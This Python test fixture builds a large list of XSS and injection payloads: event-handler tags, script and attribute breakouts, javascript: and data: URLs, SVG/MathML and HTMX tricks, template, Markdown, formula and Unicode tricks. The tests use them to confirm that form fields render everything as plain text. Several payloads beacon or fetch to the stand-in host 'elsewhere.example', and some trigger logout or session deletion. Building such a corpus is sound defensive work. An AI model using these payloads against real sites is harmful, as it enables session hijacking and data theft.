"""What people and programs might write into any field to make a browser do something. All of it must stay text.

Whoever succeeds calls `canary()`, opens a dialog, or asks `elsewhere.example` for something.
"""

import os
from itertools import product

from escalations.masking import mask

AWAY = "//elsewhere.example/x"

# HTML

_HANDLERS = {
    "img src=x": ["onerror", "onload", "onmouseover", "onclick"],
    "body": ["onload", "onpageshow", "onfocus", "onhashchange", "onresize", "onscroll", "onbeforeunload"],
    "input autofocus": ["onfocus", "onblur", "oninput", "onchange", "onselect", "oninvalid", "onkeydown", "onpaste"],
    "video src=x": ["onerror", "onloadstart", "onplay", "oncanplay"],
    "audio src=x": ["onerror", "onloadstart"],
    "details open": ["ontoggle", "onclick"],
    "dialog open": ["onclose", "oncancel"],
    "div tabindex=1 contenteditable": ["onfocus", "onpointerenter", "onwheel", "ondrag", "oncopy", "onbeforeinput"],
    "div style='animation:x 1s'": ["onanimationstart", "onanimationend", "ontransitionend"],
    "form": ["onsubmit", "onreset", "onformdata"],
    "object data=x": ["onerror", "onload"],
    "iframe src=x": ["onload", "onmouseenter"],
    "marquee": ["onstart", "onfinish", "onbounce"],
    "select autofocus": ["onfocus", "onchange"],
    "textarea autofocus": ["onfocus", "oninput"],
    "link rel=stylesheet href=x": ["onerror", "onload"],
    "style": ["onload"],
    "script src=x": ["onerror"],
    "button popovertarget=y": ["onbeforetoggle", "onclick"],
    "image src=x": ["onerror"],
    "source srcset=x": ["onerror"],
    "track src=x": ["oncuechange"],
}
_ELEMENTS = [f"<{tag} {event}=canary()>" for tag, events in _HANDLERS.items() for event in events]
_SCRIPTS = [
    "<script>canary()</script>",
    "<SCRIPT>canary()</SCRIPT>",
    "<script\n>canary()</script\n>",
    "<script/x>canary()</script>",
    "<scr<script>ipt>canary()</scr</script>ipt>",
    "<script type=module>canary()</script>",
    "<script>alert(1)</script>",
    "<script>confirm(1)</script>",
    f"<script src={AWAY}></script>",
    f"<script>fetch('{AWAY}')</script>",
    f"<script>navigator.sendBeacon('{AWAY}')</script>",
    f"<script>new Image().src='{AWAY}'</script>",
    f"<script>location='{AWAY}'</script>",
    "</script><script>canary()</script>",
    "</title><script>canary()</script>",
    "</textarea><script>canary()</script>",
    "</style><script>canary()</script>",
    "</template><script>canary()</script>",
    "--><script>canary()</script>",
    "]]><script>canary()</script>",
    "<noscript><p title='</noscript><img src=x onerror=canary()>'>",
    "<template><script>canary()</script></template>",
    "<iframe srcdoc='<script>parent.canary()</script>'></iframe>",
    "<object data='data:text/html,<script>canary()</script>'></object>",
    "<embed src='data:text/html,<script>canary()</script>'>",
    "<base href=//elsewhere.example/>",
    f"<meta http-equiv=refresh content='0;url={AWAY}'>",
    f"<link rel=stylesheet href={AWAY}>",
    f"<link rel=prefetch href={AWAY}>",
    f"<form action={AWAY}><button autofocus>Pick Up</button></form>",
    f"<input type=image src={AWAY}>",
    f"<video poster={AWAY}></video>",
    f"<style>@import '{AWAY}';</style>",
    f"<style>body{{background:url({AWAY})}}</style>",
    f"<p style='background:url({AWAY})'>",
    "<p style='position:fixed;inset:0'>",
    "<plaintext>",
    "<!--",
    "<![CDATA[",
    "<?xml version='1.0'?><x onclick=canary()>",
]

# Out of an attribute, a text of JSON, a script

_OUT_OF = ['"', "'", "`", '">', "'>", '"/>', "&quot;>", "&#34;>", "\\x22>", '\\">', "</a>", "*/"]
_BREAKOUTS = [f"{out}<img src=x onerror=canary()>" for out in _OUT_OF] + [
    f"{out} {attribute}"
    for out, attribute in product(
        ['"', "'", ""],
        [
            "onfocus=canary() autofocus x=",
            "onmouseover=canary() x=",
            "style=x:expression(canary()) x=",
            f"src={AWAY} x=",
            "hx-on:click=canary() x=",
            f"hx-get={AWAY} hx-trigger=load x=",
        ],
    )
]
_CODE = [
    "'-canary()-'",
    '"-canary()-"',
    "`${canary()}`",
    "\\';canary();//",
    '\\";canary();//',
    "');canary();//",
    "\\u003cscript\\u003ecanary()\\u003c/script\\u003e",
    "\\x3cimg src=x onerror=canary()\\x3e",
    "&lt;script&gt;canary()&lt;/script&gt;",
    "&#60;img src=x onerror=canary()&#62;",
    "&#x3c;script&#x3e;canary()&#x3c;/script&#x3e;",
    "%3Cscript%3Ecanary()%3C/script%3E",
    "%253Cscript%253Ecanary()%253C/script%253E",
    "+ADw-script+AD4-canary()+ADw-/script+AD4-",
    '{"__proto__":{"innerHTML":"<img src=x onerror=canary()>"}}',
    '{"type":"ready","cursor":0,"html":"<script>canary()</script>"}',
    "=canary()",
    "=HYPERLINK(//elsewhere.example)",
    "@SUM(1)*canary()",
]

# Addresses

_SCHEMES = [
    "javascript:canary()",
    "JaVaScRiPt:canary()",
    "java\tscript:canary()",
    "java&#10;script:canary()",
    "&#106;avascript:canary()",
    "javascript&colon;canary()",
    "\x01javascript:canary()",
    "javascript://%0acanary()",
    "vbscript:canary()",
    "data:text/html,<script>canary()</script>",
    "data:image/svg+xml,<svg onload=canary()>",
    "blob:canary()",
    "//elsewhere.example/x",
    "https:elsewhere.example",
    "\\\\elsewhere.example\\x",
    "filesystem:canary()",
]
_LINKS = _SCHEMES + [f'<a href="{scheme}" autofocus onfocus=canary()>x</a>' for scheme in _SCHEMES]
_MORE_LINKS = [
    f"<{tag} {name}='javascript:canary()'>"
    for tag, name in [
        *[("iframe", "src"), ("form", "action"), ("button", "formaction"), ("embed", "src"), ("object", "data")],
        *[("area", "href"), ("base", "href"), ("body", "background"), ("input type=image", "src"), ("link", "href")],
    ]
]

# SVG and MathML

_SVG_INSIDE = [
    "<script>canary()</script>",
    "<script href='data:text/javascript,canary()'/>",
    "<a xlink:href='javascript:canary()'><text y=9>x</text></a>",
    "<animate onbegin=canary() attributeName=x dur=1s>",
    "<set onbegin=canary() attributeName=x to=1>",
    "<animatetransform onbegin=canary()>",
    "<a><animate attributeName=href values=javascript:canary() />",
    "<foreignObject><img src=x onerror=canary()></foreignObject>",
    "<desc><img src=x onerror=canary()></desc>",
    "<title><img src=x onerror=canary()></title>",
    "<style><img src=x onerror=canary()></style>",
    f"<use href={AWAY}#x />",
    f"<image href={AWAY} />",
    "<image href=x onerror=canary() />",
    f"<feImage href={AWAY} />",
    "<p><style><!--</style><img src=x onerror=canary()>",
]
_SVG = ["<svg onload=canary()>", "<svg/onload=canary()>", "<svg><svg onload=canary()>"]
_SVG += [f"<svg>{inside}</svg>" for inside in _SVG_INSIDE]
_MATHML = [
    f"<math>{inside}</math>"
    for inside in [
        "<a xlink:href='javascript:canary()'>x</a>",
        "<maction actiontype='statusline' xlink:href='javascript:canary()'>x</maction>",
        "<mtext><img src=x onerror=canary()></mtext>",
        "<mi><script>canary()</script></mi>",
        "<annotation-xml encoding='text/html'><img src=x onerror=canary()></annotation-xml>",
        "<mglyph><style><!--</style><img src=x onerror=canary()>",
        "<mtext><table><mglyph><style><!--</style><img src=x onerror=canary()>",
        "<semantics onclick=canary()>x</semantics>",
    ]
]

# HTMX, with and without `data-`

_HTMX = [
    f"<{tag} {prefix}{attribute}>x</{tag}>"
    for prefix, (tag, attribute) in product(
        ["hx-", "data-hx-"],
        [
            ("p", f"get='{AWAY}' {{0}}trigger=load"),
            ("p", f"post='{AWAY}' {{0}}trigger='every 10ms'"),
            ("p", "post='/logout/' {0}trigger=load"),
            ("p", "delete='/sessions/' {0}trigger=revealed"),
            ("p", "on:htmx:load='canary()'"),
            ("p", "on--load='canary()'"),
            ("p", "on:click='canary()'"),
            ("p", "get='/login/' {0}trigger='load[canary()]'"),
            ("p", "get='/login/' {0}vals='js:{{x:canary()}}' {0}trigger=load"),
            ("p", "get='/login/' {0}headers='js:{{x:canary()}}' {0}trigger=load"),
            ("p", "get='/login/' {0}target=body {0}trigger=load"),
            ("p", "get='/login/' {0}swap-oob=true {0}trigger=intersect"),
            ("p", "ext=canary {0}boost=true"),
            ("p", "confirm='x' {0}prompt='y' {0}get='/login/' {0}trigger=load"),
            ("p", "push-url='//elsewhere.example' {0}get='/login/' {0}trigger=load"),
            ("a", "boost=true href='//elsewhere.example'"),
            ("main", "swap-oob='innerHTML:#main'"),
            ("p", "sse='connect://elsewhere.example' {0}ws='connect://elsewhere.example'"),
        ],
    )
]
_HTMX = [each.format("data-hx-" if "<" in each and " data-hx-" in each else "hx-") for each in _HTMX]

# Templates and Markdown

_TEMPLATES = [
    *["{{ 7|add:7 }}", "{{ request.user }}", "{{ settings.SECRET_KEY }}", "{% debug %}", "{% load static %}"],
    *["{% include 'base.html' %}", "{% csrf_token %}", "{# x #}", "{{ x|safe }}", "{% autoescape off %}", "%(x)s"],
    *["{0.__class__}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "@{7*7}", "*{canary()}", "[[${canary()}]]", "{{constructor}}"],
    *["{{constructor.constructor('canary()')()}}", "{{$on.constructor('canary()')()}}", "{{{canary()}}}", "%s%n%x"],
    *["<p v-html='canary()' x-init='canary()' ng-app>{{canary()}}</p>", "<p x-data @click='canary()'>", "$(canary())"],
]
_MARKDOWN = [
    *[
        "[x](javascript:canary())",
        "![x](//elsewhere.example/x.png)",
        "[x]: javascript:canary()",
        "<javascript:canary()>",
    ],
    *[
        "![x](x 'onerror=canary()')",
        "[x](data:text/html,<script>canary()</script>)",
        "```html\n<script>canary()</script>",
    ],
    *[
        "# <img src=x onerror=canary()>",
        "| <svg onload=canary()> |",
        "> <script>canary()</script>",
        "**<b onclick=canary()>**",
    ],
    *[
        "[x](//elsewhere.example)",
        "https://elsewhere.example/x",
        "![][x]\n\n[x]: //elsewhere.example/x",
        "~~<s onload=canary()>~~",
    ],
]

# Letters that look, hide or turn

_LETTERS = [
    *[
        "＜script＞canary()＜/script＞",
        "‹script›canary()‹/script›",
        "<ſcript>canary()</ſcript>",
        "<ımg src=x onerror=canary()>",
    ],
    *["\u202e<script>canary()</script>", "\u202egnp.exe", "\u2066Pick Up\u2069", "\u200f<b onclick=canary()>\u200e"],
    *["<\u200bscript>canary()</script>", "<img\u00a0src=x\u00a0onerror=canary()>", "<img\u2028src=x onerror=canary()>"],
    *["<img\x0csrc=x\x0conerror=canary()>", "<img\x0bsrc=x onerror=canary()>", "<\ufeffscript>canary()</script>"],
    *[
        "Z̸̡̛͔a̷l̵g̶o̴ <svg onload=canary()>",
        "𝐏𝐢𝐜𝐤 𝐔𝐩",
        "👩‍💻<img src=x onerror=canary()>",
        "\U000e0041<x onclick=canary()>",
        "ﷺ" * 9,
    ],
    *[
        "<script\u3000>canary()</script>",
        "\u1680canary()",
        "\x7f<img src=x onerror=canary()>",
        "\x1b[31mcanary()\x1b[0m",
        "İ<ß>",
    ],
]

EVERYTHING = [
    *(_ELEMENTS + _SCRIPTS + _BREAKOUTS + _CODE + _LINKS + _MORE_LINKS + _SVG + _MATHML),
    *(_HTMX + _TEMPLATES + _MARKDOWN + _LETTERS),
]
# What looks like a secret is taken out of texts before anybody sees it, which other tests are about.
ALL = [text.strip() for text in dict.fromkeys(EVERYTHING) if mask(text) == text]
# CI takes all of them; at a desk one of five, each time the same.
PAYLOADS = ALL if {os.environ.get("CI"), os.environ.get("EVERY_PAYLOAD")} & {"true", "yes"} else ALL[::5]
